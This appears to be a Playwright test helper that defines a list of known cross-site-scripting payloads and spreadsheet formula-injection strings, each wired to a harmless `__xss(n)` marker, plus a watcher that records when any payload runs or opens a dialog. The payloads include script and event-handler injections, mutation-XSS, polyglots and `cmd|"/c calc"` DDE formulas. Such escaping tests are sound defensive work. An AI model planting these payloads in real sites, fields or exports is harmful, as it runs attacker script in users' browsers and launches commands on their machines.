import type { BrowserContext, Page } from '@playwright/test';

// Known script-injection payloads (OWASP's filter evasion cheat sheet, PortSwigger's XSS cheat sheet, classic
// mutation-XSS and polyglots), each calling the page binding `__xss(n)` if it ever runs, plus spreadsheet
// formulas. `#` in a template is replaced by the payload's number. All fit in 100 characters (group, menu and
// admin names); names of reporters take those of 50 characters or fewer.

const TEMPLATES = [
  '<script>__xss(#)</script>',
  '<img src=x onerror=__xss(#)>',
  '<img src="x" onerror="__xss(#)">',
  '<svg onload=__xss(#)>',
  '<svg><script>__xss(#)</script></svg>',
  '<body onload=__xss(#)>',
  '<iframe srcdoc="<script>parent.__xss(#)</script>">',
  '<iframe src="javascript:parent.__xss(#)">',
  '<a href="javascript:__xss(#)">클릭</a>',
  '<a href=javascript&colon;__xss(#)>x</a>',
  '<details open ontoggle=__xss(#)>',
  '<input autofocus onfocus=__xss(#)>',
  '<select autofocus onfocus=__xss(#)>',
  '<textarea autofocus onfocus=__xss(#)>',
  '<video><source onerror=__xss(#)></video>',
  '<audio src=x onerror=__xss(#)>',
  '<marquee onstart=__xss(#)>',
  '<object data="javascript:__xss(#)">',
  '<embed src="javascript:__xss(#)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(#)>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(#)>">',
  '<svg><style><img src=x onerror=__xss(#)></style></svg>',
  '<form><button formaction=javascript:__xss(#)>x</button></form>',
  '<isindex type=image src=1 onerror=__xss(#)>',
  '"><script>__xss(#)</script>',
  "'><img src=x onerror=__xss(#)>",
  '</textarea><script>__xss(#)</script>',
  '</title><script>__xss(#)</script>',
  '</style><script>__xss(#)</script>',
  '--><script>__xss(#)</script>',
  ']]><script>__xss(#)</script>',
  '" onmouseover="__xss(#)" x="',
  "' autofocus onfocus='__xss(#)' x='",
  '`-__xss(#)-`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, kept as typed.
  '${__xss(#)}',
  '{{constructor.constructor("__xss(#)")()}}',
  'javascript:__xss(#)',
  'data:text/html,<script>parent.__xss(#)</script>',
  '&lt;script&gt;__xss(#)&lt;/script&gt;',
  '&#60;img src=x onerror=__xss(#)&#62;',
  '\\u003cscript\\u003e__xss(#)\\u003c/script\\u003e',
  '%3Cscript%3E__xss(#)%3C/script%3E',
  '<scr<script>ipt>__xss(#)</scr</script>ipt>',
  '<SCRIPT SRC=//x.invalid/#.js></SCRIPT>',
  '<img """><script>__xss(#)</script>">',
  '<img src=x:alert(1) onerror=eval(atob("X194c3MoMSk="))>#',
  '<div style="background:url(javascript:__xss(#))">',
  '<link rel=stylesheet href="javascript:__xss(#)">',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(#)">',
  '<base href="javascript:__xss(#)//">',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=__xss(#) )//',
  '[클릭](javascript:__xss(#))',
  '=HYPERLINK("http://x.invalid/?#","열기")',
  '+cmd|"/c calc"!A#',
  '-2+3+cmd|"/c calc"!A#',
  '@SUM(1+#)*cmd|"/c calc"!A0',
];

export const XSS_PAYLOADS: readonly string[] = TEMPLATES.map((t, i) => t.replaceAll('#', String(i + 1)));

/** What the page did that a payload could have caused: binding calls and dialogs. */
export type XssWatch = { fired: string[]; dialogs: string[] };

/**
 * Exposes `__xss` on every page of the context (a payload that runs calls it) and records dialogs (alert,
 * confirm, prompt) that nothing in these screens opens by itself.
 */
export async function watchForScripts(context: BrowserContext): Promise<XssWatch> {
  const watch: XssWatch = { fired: [], dialogs: [] };
  await context.exposeBinding('__xss', ({ page }, n: unknown) => {
    watch.fired.push(`payload ${String(n)} ran on ${page.url()}`);
  });
  context.on('page', (page: Page) => {
    page.on('dialog', (d) => {
      watch.dialogs.push(`${d.type()}: ${d.message()} on ${page.url()}`);
      void d.dismiss();
    });
  });
  return watch;
}
